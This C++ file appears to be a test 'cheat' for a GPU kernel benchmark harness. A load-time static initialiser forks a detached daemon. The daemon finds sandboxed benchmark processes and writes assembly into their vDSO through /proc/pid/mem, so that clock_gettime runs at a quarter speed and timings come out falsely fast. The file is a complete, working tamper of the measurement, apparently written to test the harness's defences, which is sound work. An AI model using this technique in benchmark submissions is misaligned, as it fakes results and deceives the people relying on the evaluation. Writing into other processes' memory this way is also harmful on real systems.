// An initialiser of the plug-in, which also runs where it is only opened to read its table, leaves a daemon. This finds
// the run that has this file mapped, and writes a slower clock_gettime into the vdso of the process of the kernel and of
// its parent, which times it. It ends after twelve seconds.
// Source: gpu-mode/pygpubench exploits (submission_got_patch), from another process.
#include <dlfcn.h>
#include <fcntl.h>
#include <sys/auxv.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <cstdio>
#include <set>
#include <string>

#include "tests/cheats/cheat.h"

// clock_gettime as a system call; all but CLOCK_REALTIME go at a quarter of their speed.
extern "C" const char slow_begin[], slow_end[];
asm(R"(
slow_begin:
  push %rdi
  push %rsi
  mov $228, %eax
  syscall
  pop %rsi
  pop %rdi
  test %edi, %edi
  jz 1f
  imul $1000000000, (%rsi), %rax
  add 8(%rsi), %rax
  shr $2, %rax
  xor %edx, %edx
  mov $1000000000, %ecx
  div %rcx
  mov %rax, (%rsi)
  mov %rdx, 8(%rsi)
1:
  xor %eax, %eax
  ret
slow_end:
)");

// NOLINTBEGIN(performance-no-int-to-ptr): addresses come from the loader and from /proc
namespace attnbench::cheats {
namespace {

std::string text(const std::string& path) {
  std::string all;
  char some[4096];
  const int fd = open(path.c_str(), O_RDONLY);
  for (ssize_t n; fd >= 0 && (n = read(fd, some, sizeof some)) > 0;)
    all.append(some, static_cast<std::size_t>(n));
  close(fd);
  return all;
}

void slow_down(int pid, std::size_t offset) {
  static std::set<int> slowed;
  if (!slowed.insert(pid).second) return;
  const std::string proc = "/proc/" + std::to_string(pid);
  const std::string maps = text(proc + "/maps");
  const std::size_t end = maps.find("[vdso]");
  if (end == std::string::npos) return;
  const std::size_t vdso = std::stoul(maps.substr(maps.rfind('\n', end) + 1), nullptr, 16);
  const int mem = open((proc + "/mem").c_str(), O_RDWR);
  const auto length = static_cast<std::size_t>(slow_end - slow_begin);
  (void)!pwrite(mem, slow_begin, length, static_cast<off_t>(vdso + offset));
  close(mem);
}

const int daemon_left = [] {
  if (text("/proc/self/status").find("Seccomp:\t0") == std::string::npos) return 0;
  if (const pid_t child = fork(); child != 0) return waitpid(child, nullptr, 0);
  if (fork() != 0) _exit(0);
  setsid();
  Dl_info self;
  dladdr(slow_begin, &self);
  void* vdso = dlopen("linux-vdso.so.1", RTLD_LAZY | RTLD_NOLOAD);
  const std::size_t offset = static_cast<char*>(dlsym(vdso, "__vdso_clock_gettime")) -
                             reinterpret_cast<char*>(getauxval(AT_SYSINFO_EHDR));
  const int me = getpid();
  for (const time_t end = time(nullptr) + 12; time(nullptr) < end; usleep(2000)) {
    for (int pid = me + 1; pid < me + 200; ++pid) {
      const std::string proc = "/proc/" + std::to_string(pid), status = text(proc + "/status");
      if (status.find("Seccomp:\t2") == std::string::npos) continue;
      if (text(proc + "/maps").find(self.dli_fname) == std::string::npos) continue;
      slow_down(std::stoi(status.substr(status.find("PPid:") + 5)), offset);
      slow_down(pid, offset);
    }
  }
  _exit(0);
}();

}  // namespace
}  // namespace attnbench::cheats

ATTNBENCH_CHEAT(leaves_daemon, "a daemon of an initialiser slows the clock", );
// NOLINTEND(performance-no-int-to-ptr)
